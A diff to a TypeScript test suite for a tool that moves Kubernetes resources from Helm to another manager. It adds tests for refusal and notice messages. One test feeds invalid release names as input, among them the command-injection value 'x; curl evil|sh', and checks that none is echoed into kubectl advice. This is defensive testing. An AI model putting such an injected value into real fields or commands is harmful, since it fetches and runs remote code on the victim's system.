@@ -109,6 +109,15 @@ describe("the step import of an adoption", () => {
         assert.deepEqual(await problems(cluster(all(imported)), step), []);
     });
 
+    it("is refused halfway through the next step", async () => {
+        const half = { ...all(adopted), [`Deployment/${full}`]: "absent" } as const;
+        const [message] = await problems(cluster(half), step);
+        assert.match(
+            String(message),
+            /^Deployment .*: it was deleted after its import, and step replace makes it anew\. Set adopt to replace/,
+        );
+    });
+
     it("refuses what isn't there, and names what is", async () => {
         const found = await problems(cluster(existing), {
             ...step,
@@ -139,7 +148,11 @@ describe("the step import of an adoption", () => {
         ],
         ["selects nothing", withSpec(service, { selector: undefined }), /doesn't select the pods of the Deployment/],
         ["is headless", headless, /it is headless .* can't be the public Service/],
-        ["has another port", withSpec(service, { ports: [{ port: 80 }] }), /has no port 4000, .* It has: 80\./],
+        [
+            "has another port",
+            withSpec(service, { ports: [{ port: 80 }] }),
+            /has no port 4000, .* It has: 80\. .*"port":4000,"targetPort":4000\}/,
+        ],
         [
             "has another type",
             withSpec(service, { type: "NodePort" }),
@@ -191,7 +204,7 @@ describe("the step import of an adoption", () => {
         assert.match(text, /Gone after step replace: the ports 4001, 4010, 4011 of the public Service\./);
         assert.match(text, /the annotations example\.com\/balancer of the public Service/);
         const kept = { serviceAnnotations: { "example.com/balancer": "internal" } };
-        assert.doesNotMatch(await notice(released, { ...step, ...settings, ...kept }), /annotations/);
+        assert.doesNotMatch(await notice(released, { ...step, ...settings, ...kept }), /annotations .* public/);
         assert.match(text, /The old pods have variables that are set nowhere here: API_HOST\.$/m);
         assert.match(text, /Don't uninstall it.* kubectl delete secret -n rig-dev -l owner=helm,name=mine/);
         assert.match(
@@ -279,6 +292,19 @@ describe("the step replace of an adoption", () => {
         assert.match(absent.join(), /Deployment .*: it doesn't exist/);
     });
 
+    it("refuses what Helm has changed since the import", async () => {
+        const changedBy = (...specManagers: string[]) =>
+            cluster({ ...all(imported), [`Service/${full}`]: { ...imported(service), specManagers } });
+        assert.deepEqual(await problems(changedBy("pulumi-kubernetes", "kubectl-edit"), step), []);
+        assert.equal((await problems(changedBy("helm-controller"), step)).length, 1);
+        const [message, ...others] = await problems(changedBy("pulumi-kubernetes", "helm"), step);
+        assert.match(
+            String(message),
+            /^Service .*: Helm has changed it since step import, .* Run step import once more/,
+        );
+        assert.deepEqual(others, []);
+    });
+
     it("waits until Helm has forgotten the release", async () => {
         const released = all((found) => ({
             ...imported(found),
@@ -299,9 +325,19 @@ describe("the step replace of an adoption", () => {
         const text = await notice(released, step, "forbidden");
         assert.match(
             text,
-            /can't be seen: .* Don't uninstall it.* kubectl delete secret -n rig-dev -l owner=helm,name=mine/,
+            /Don't uninstall it: .* can't be seen: .* kubectl delete secret -n rig-dev -l owner=helm,name=mine/,
         );
         assert.doesNotMatch(await notice(all(imported), step, "forbidden"), /Helm/);
+    });
+
+    it("takes nothing for a release's name that Helm wouldn't", async () => {
+        for (const name of ["x; curl evil|sh", "$(x)", "x\nRun: y", "X", "a..b", "-a", ""]) {
+            const released = all((found) => ({
+                ...imported(found),
+                annotations: { "meta.helm.sh/release-name": name },
+            }));
+            assert.doesNotMatch(await notice(released, step, "forbidden"), /Helm|kubectl/, name);
+        }
     });
 
     it("says what it interrupts, and afterwards that it is done", async () => {
